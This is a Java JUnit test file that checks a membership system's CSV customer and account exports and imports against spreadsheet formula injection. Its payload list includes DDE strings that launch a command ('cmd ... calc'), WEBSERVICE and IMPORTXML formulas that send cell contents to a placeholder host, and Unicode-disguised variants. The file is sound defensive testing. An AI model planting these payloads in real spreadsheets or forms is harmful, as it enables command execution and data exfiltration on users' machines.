package org.openmembership.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.StringWriter;
import java.io.Writer;
import java.lang.reflect.Method;
import java.lang.reflect.Modifier;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.List;
import java.util.Set;
import java.util.TreeSet;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.openmembership.Membership;
import org.openmembership.account.AccountType;
import org.openmembership.customer.Customer;
import org.openmembership.customer.PersonName;
import org.openmembership.customers.CreationResult;
import org.openmembership.customers.CustomerForm;
import org.openmembership.customers.NewCustomerKind;
import org.openmembership.customers.RequestedCompany;
import org.openmembership.directory.DirectoryQuery;
import org.openmembership.directory.SearchTerm;
import org.openmembership.enrolment.EnrolmentResult;
import org.openmembership.importing.ImportFormat;
import org.openmembership.importing.ImportKind;
import org.openmembership.importing.ImportOptions;
import org.openmembership.request.InvalidRequestException;
import org.openmembership.request.RequestedAddress;
import org.openmembership.testing.Shop;
import org.openmembership.testing.ShopTest;
import org.openmembership.testkit.Requirement;

/** S34: a text that somebody typed runs in the spreadsheet of the clerk who opens an export. */
@Requirement({"S34", "B3"})
final class S34FormulaInjectionTest extends ShopTest {
    /** Of the ways in which files are written, those of columns; the others write JSON. */
    private static final Set<String> FILES_OF_COLUMNS = Set.of("Exporting.accounts", "Exporting.customers");

    private static final Set<String> JSON = Set.of("Disclosure.write");

    private static final List<String> PAYLOADS = Stream.concat(
                    Stream.of(
                            "=1+1",
                            "+1+1",
                            "-1+1",
                            "@SUM(1;1)",
                            "=cmd|' /C calc'!A0",
                            "=HYPERLINK(\"http://x.example\";\"y\")",
                            "=WEBSERVICE(\"http://x.example/\"&A1)",
                            "=IMPORTXML(CONCAT(\"http://x.example/\";A1);\"//a\")",
                            "-2+3+cmd|' /C calc'!D2",
                            "+cmd|' /C calc'!A0",
                            "@cmd|' /C calc'!A0",
                            "=1+1\",=2+2,\"",
                            "\"=1+1",
                            "'=1+1",
                            "a\",\"=1+1",
                            "a,=1+1",
                            "a;=1+1",
                            "\u200b=1+1",
                            "\u00a0=1+1",
                            "\u2003=1+1",
                            "\ufeff=1+1",
                            "\u2060@x",
                            "\u00ad-1",
                            "\u3000+1",
                            " =1+1",
                            "  -1",
                            "=\u00e4",
                            "=\ud83d\ude80"),
                    Stream.of("\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe62", "\ufe63", "\ufe66", "\ufe6b", "\u2212")
                            .flatMap(sign -> Stream.of(sign + "1+1", sign + "SUM(A1)")))
            .toList();

    @Test
    void every_way_of_writing_a_file_is_known_here() {
        Set<String> writing = new TreeSet<>();
        for (Method accessor : Membership.class.getMethods()) {
            if (accessor.getParameterCount() == 0 && !Modifier.isStatic(accessor.getModifiers())) {
                for (Method method : accessor.getReturnType().getMethods()) {
                    if (List.of(method.getParameterTypes()).contains(Writer.class)
                            && accessor.getReturnType().getPackageName().startsWith("org.openmembership")) {
                        writing.add(accessor.getReturnType().getSimpleName() + "." + method.getName());
                    }
                }
            }
        }
        Set<String> known = new TreeSet<>(FILES_OF_COLUMNS);
        known.addAll(JSON);
        assertThat(writing).isEqualTo(known);
        assertThat(PAYLOADS).hasSizeGreaterThanOrEqualTo(40);
    }

    @Test
    void no_cell_of_an_export_of_customers_is_a_formula_and_each_is_what_was_typed() throws IOException {
        Set<String> typed = new TreeSet<>();
        for (String payload : PAYLOADS) {
            if (PersonName.problemOf(payload) == null) {
                typed.add(create(payload).name().first());
            }
        }
        StringWriter out = new StringWriter();

        long rows =
                shop.membership().exporting().customers(DirectoryQuery.of(new SearchTerm.Everybody()), out, done -> {});

        List<List<String>> lines = parsed(out.toString());
        assertThat(lines).hasSize((int) rows + 1);
        assertThat(rows).isEqualTo(typed.size()).isGreaterThanOrEqualTo(40);
        assertThat(lines)
                .allSatisfy(
                        line -> assertThat(line).hasSize(lines.get(0).size()).noneMatch(S34FormulaInjectionTest::runs));
        Set<String> read = new TreeSet<>();
        int first = lines.get(0).indexOf("firstName");
        lines.stream().skip(1).forEach(line -> read.add(line.get(first)));
        Set<String> expected = new TreeSet<>();
        typed.forEach(text -> expected.add(runs(text) ? "'" + text : text));
        assertThat(read).isEqualTo(expected);
    }

    @Test
    void no_cell_of_an_export_of_accounts_is_a_formula() throws IOException {
        for (String sign : List.of("=", "+", "-", "@")) {
            Membership named = shop.over(shop.storage(), sign + "id-").open();
            EnrolmentResult enrolled = named.enrolment().enrol(shop.member(), Shop.CLUB, AccountType.FAMILY);
            assertThat(((EnrolmentResult.Enrolled) enrolled).account().id().value())
                    .startsWith(sign);
        }
        StringWriter out = new StringWriter();

        long rows = shop.membership().exporting().accounts(Shop.CLUB, out, done -> {});

        assertThat(rows).isEqualTo(4);
        List<List<String>> lines = parsed(out.toString());
        assertThat(lines.stream().skip(1))
                .allSatisfy(line -> assertThat(line.get(0)).startsWith("'").endsWith("id-00000001"));
        assertThat(lines).allSatisfy(line -> assertThat(line).noneMatch(S34FormulaInjectionTest::runs));
    }

    @Test
    void imported_cells_are_kept_as_they_are_and_what_we_say_of_a_refused_row_is_no_formula() throws IOException {
        ByteArrayOutputStream faults = new ByteArrayOutputStream();
        String file = "reference,firstName,lastName,email\n1,=1+1,+x,\n=2,@a,-b,=no@address\n";

        shop.membership()
                .importing()
                .file(
                        new ByteArrayInputStream(file.getBytes(StandardCharsets.UTF_8)),
                        ImportOptions.of(ImportKind.CUSTOMERS, ImportFormat.CSV)
                                .source("pos")
                                .faults(faults));

        StringWriter out = new StringWriter();
        shop.membership().exporting().customers(DirectoryQuery.of(new SearchTerm.Everybody()), out, done -> {});
        List<String> row = parsed(out.toString()).get(1);
        assertThat(row).contains("'=1+1", "'+x");
        String told = faults.toString(StandardCharsets.UTF_8)
                .lines()
                .skip(1)
                .findFirst()
                .orElse("");
        assertThat(told).endsWith(",=2,@a,-b,=no@address");
        assertThat(parsed(told.substring(0, told.indexOf(",=2")) + "\r\n").get(0))
                .noneMatch(S34FormulaInjectionTest::runs);
    }

    private Customer create(String payload) {
        CustomerForm.Builder form = CustomerForm.builder()
                .name(payload, payload)
                .business(new RequestedCompany(payload, null, null))
                .addresses(List.of(RequestedAddress.in("GB")
                        .lines(payload, null)
                        .town(payload)
                        .build()));
        try {
            return created(form.accountCode(payload).build());
        } catch (InvalidRequestException refusedCode) {
            assertThat(refusedCode.violations())
                    .allMatch(broken -> broken.path().equals("accountCode"));
            return created(form.accountCode(null).build());
        }
    }

    private Customer created(CustomerForm form) {
        CreationResult result = shop.membership().customers().create(shop.key(), NewCustomerKind.IN_STORE, form);
        return ((CreationResult.Created) result).customer();
    }

    /** Whether the first character that is seen makes a spreadsheet reckon; said here in other words than there. */
    private static boolean runs(String cell) {
        return cell.matches(
                "(?s)^[\\s\\p{Z}\\p{Cf}]*[=+\\-@\uff1d\uff0b\uff0d\uff20\ufe62\ufe63\ufe66\ufe6b\u2212\\p{Cc}].*");
    }

    /** As RFC 4180 has it. */
    private static List<List<String>> parsed(String file) {
        List<List<String>> lines = new ArrayList<>();
        List<String> line = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < file.length(); i++) {
            char c = file.charAt(i);
            boolean doubled = quoted && c == '"' && i + 1 < file.length() && file.charAt(i + 1) == '"';
            if (doubled) {
                cell.append(c);
                i++;
            } else if (c == '"') {
                quoted = !quoted;
            } else if (!quoted && (c == ',' || c == '\n')) {
                line.add(cell.toString());
                cell.setLength(0);
                if (c == '\n') {
                    lines.add(line);
                    line = new ArrayList<>();
                }
            } else if (quoted || c != '\r') {
                cell.append(c);
            }
        }
        return lines;
    }
}
